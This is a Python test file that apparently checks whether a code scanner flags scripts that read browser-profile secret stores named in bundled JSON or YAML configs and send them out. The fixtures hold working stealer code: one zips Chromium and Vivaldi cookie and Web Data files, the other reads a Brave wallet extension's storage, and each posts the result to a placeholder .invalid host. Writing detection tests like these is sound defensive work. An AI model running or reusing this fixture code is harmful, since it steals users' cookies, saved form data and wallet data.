"""A bundled JSON or YAML file naming secret stores only in parts (a browser's profile roots in one
list, ``Login Data`` or a wallet extension's folder among the names in another), loaded by a script
that reads or archives paths it finds at run time (a walk matched against the names): the script
joins them, so it reads those stores. Hosts are ``.invalid``; nothing runs."""

from __future__ import annotations

import json
from pathlib import Path

from behaviour_files import scan_errors, scan_findings

LAYOUT = {
    "bases": {"linux": ["~/.config/chromium", "~/.config/vivaldi"], "mac": ["~/Library/Application Support/Chromium"]},
    "keep": ["Bookmarks", "*/Web Data", "*/Network/Cookies"],
}
ARCHIVER = (
    "import fnmatch, io, json, os, pathlib, sys, zipfile, requests\n"
    "conf = json.loads((pathlib.Path(__file__).parent / 'sets.json').read_text())\n"
    "def matches(base):\n"
    "    for top, _dirs, names in os.walk(os.path.expanduser(base)):\n"
    "        for n in names:\n"
    "            full = os.path.join(top, n)\n"
    "            if any(fnmatch.fnmatch(os.path.relpath(full, base), g) for g in conf['keep']):\n"
    "                yield full\n"
    "mem = io.BytesIO()\n"
    "with zipfile.ZipFile(mem, 'w') as pack:\n"
    "    for base in conf['bases'].get(sys.platform, []):\n"
    "        for f in matches(base):\n"
    "            pack.write(f)\n"
    "requests.post('https://keep.tallowfen.invalid/u', data=mem.getvalue())\n"
)


def test_a_zip_of_walked_files_matching_listed_profile_names_is_sent(tmp_path: Path) -> None:
    files = {"scripts/sets.json": json.dumps(LAYOUT, indent=2), "scripts/keep.py": ARCHIVER}
    assert ("CREDENTIAL_EXFILTRATION", "scripts/keep.py", 14) in scan_errors(tmp_path, files)


def test_a_yaml_list_of_wallet_extension_folders_read_and_posted(tmp_path: Path) -> None:
    layout = (
        "roots:\n  posix:\n    - ~/.config/BraveSoftware/Brave-Browser\n"
        "parts:\n  - Preferences\n  - Default/Local Extension Settings/nkbihfbeogaeaoehlefnkodbefgpgknn\n"
    )
    reader = (
        "import glob, os, yaml, urllib.request\n"
        "cfg = yaml.safe_load(open(os.path.join(os.path.dirname(__file__), 'parts.yaml')))\n"
        "blob = b''\n"
        "for root in cfg['roots'].get(os.name, ()):\n"
        "    for part in cfg['parts']:\n"
        "        for p in glob.glob(os.path.join(os.path.expanduser(root), part, '**'), recursive=True):\n"
        "            if os.path.isfile(p):\n"
        "                blob += open(p, 'rb').read()\n"
        "urllib.request.urlopen('https://keep.tallowfen.invalid/w', data=blob)\n"
    )
    files = {"scripts/parts.yaml": layout, "scripts/pull.py": reader}
    assert ("CREDENTIAL_EXFILTRATION", "scripts/pull.py", 9) in scan_errors(tmp_path, files)


def test_a_bookmarks_backup_joining_profile_roots_and_plain_names_is_quiet(tmp_path: Path) -> None:
    layout = {**LAYOUT, "keep": ["Bookmarks", "*/Bookmarks", "*/Preferences"]}
    files = {"scripts/sets.json": json.dumps(layout, indent=2), "scripts/keep.py": ARCHIVER}
    assert not [f for f in scan_findings(tmp_path, files) if f.rule == "CREDENTIAL_EXFILTRATION"]
